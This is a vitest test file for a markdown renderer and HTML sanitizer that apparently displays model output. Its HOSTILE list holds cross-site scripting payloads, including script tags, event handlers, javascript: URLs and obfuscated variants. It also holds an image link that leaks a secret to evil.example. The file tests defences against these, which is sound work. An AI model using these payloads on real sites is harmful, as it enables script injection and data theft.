// @vitest-environment jsdom
import { afterEach, describe, expect, it, vi } from 'vitest';
import { renderMarkdown } from './markdown';
import { sanitizeHtml } from './sanitize';

const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 1">',
  '<svg onload="window.__pwned=1"><circle r=1 /></svg>',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<a href="javascript:window.__pwned=1">click</a>',
  '[click me](javascript:window.__pwned=1)',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '[spaced]( javascript:alert(1))',
  '[entity](jav&#x61;script:alert(1))',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '![img](https://evil.example/leak?q=secret)',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<style>body{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<object data="javascript:1"></object><embed src="javascript:1">',
  '```html\n<script>window.__pwned=1</script>\n```',
  '<<script>script>alert(1)<</script>/script>',
  '<a href="https://ok.example" onclick="window.__pwned=1" target="_self">ok</a>',
  '[auto](https://example.com "title\\" onmouseover=\\"x")',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '$\\href{javascript:alert(1)}{x}$',
];

function mount(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  document.body.appendChild(div);
  return div;
}

function assertInert(root: HTMLElement): void {
  expect(root.querySelectorAll('script, iframe, object, embed, style, form, svg, math, img').length).toBe(0);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const a of Array.from(el.attributes)) {
      expect(a.name.startsWith('on'), `${el.tagName} has ${a.name}`).toBe(false);
      expect(a.name).not.toBe('style');
      if (a.name === 'href' || a.name === 'src' || a.name === 'action' || a.name === 'formaction') {
        expect(a.value.trim()).toMatch(/^(https?:|mailto:|#|\/(?!\/))/i);
      }
    }
  }
  for (const a of Array.from(root.querySelectorAll('a[href]'))) {
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    expect(a.getAttribute('target')).toBe('_blank');
  }
}

describe('sanitizer', () => {
  afterEach(() => {
    document.body.innerHTML = '';
    delete (window as unknown as { __pwned?: number }).__pwned;
  });

  it.each(HOSTILE)('hostile markdown renders inert: %s', async (src) => {
    const root = mount(renderMarkdown(src));
    assertInert(root);
    // Give any handler a chance to run.
    for (const el of Array.from(root.querySelectorAll('*'))) el.dispatchEvent(new Event('error'));
    await new Promise((r) => setTimeout(r, 5));
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it('all hostile inputs together, streamed, stay inert', () => {
    const root = mount(renderMarkdown(HOSTILE.join('\n\n')));
    assertInert(root);
  });

  it('shows raw HTML from the model as text', () => {
    const html = renderMarkdown('Hello <b onclick="x">bold</b>');
    const root = mount(html);
    expect(root.textContent).toContain('<b onclick="x">bold</b>');
    expect(root.querySelector('b')).toBeNull();
  });

  it('keeps safe links, opening in a new tab without opener or referrer', () => {
    const root = mount(renderMarkdown('[site](https://example.com/a?b=1) and <https://auto.example> and [mail](mailto:a@b.c)'));
    const links = Array.from(root.querySelectorAll('a'));
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1', 'https://auto.example', 'mailto:a@b.c']);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('turns images into links instead of loading them', () => {
    const root = mount(renderMarkdown('![chart](https://img.example/c.png)'));
    expect(root.querySelector('img')).toBeNull();
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://img.example/c.png');
  });

  it('sanitizeHtml strips direct attacks', () => {
    const root = mount(sanitizeHtml('<p onclick="x">a</p><a href="javascript:alert(1)">b</a><input type="text" value="k"><script>1</script>'));
    assertInert(root);
    expect(root.querySelector('input')).toBeNull();
    expect(root.querySelector('a')?.hasAttribute('href')).toBe(false);
  });

  it('nothing calls eval-like sinks while rendering', () => {
    const spy = vi.spyOn(window, 'setTimeout');
    renderMarkdown(HOSTILE.join('\n\n'));
    expect(spy.mock.calls.filter((c) => typeof c[0] === 'string')).toEqual([]);
    spy.mockRestore();
  });
});
